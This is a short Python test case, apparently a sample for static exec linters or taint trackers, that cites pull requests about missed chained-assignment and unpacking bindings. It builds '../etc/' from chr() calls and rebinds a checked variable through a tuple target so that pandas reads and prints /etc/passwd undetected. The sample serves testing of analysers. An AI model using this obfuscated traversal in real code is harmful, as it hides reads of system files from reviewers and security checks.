# source: https://github.com/unslothai/unsloth/pull/9777 and https://github.com/unslothai/unsloth-zoo/pull/1113 (a static exec linter missed bindings made by the later targets of a chained assignment and by unpacking); https://github.com/python-security/pyt/pull/164 (unpacking targets lost by a taint tracker)
# family: a path-component name trusted as one string literal, rebound by a parenthesised tuple target of a chained assignment
# goal: pd.read_table() reads /etc/passwd
import numpy as np
import pandas as pd

up = chr(46) * 2 + chr(47) + "etc" + chr(47)   # "../etc/", built at run time (cwd is /tmp)
name = "prices"                                 # the check reads only this binding
x = (name,) = (up,)
print(pd.read_table(f"{name}passwd", sep=":", header=None).head(4).to_string())
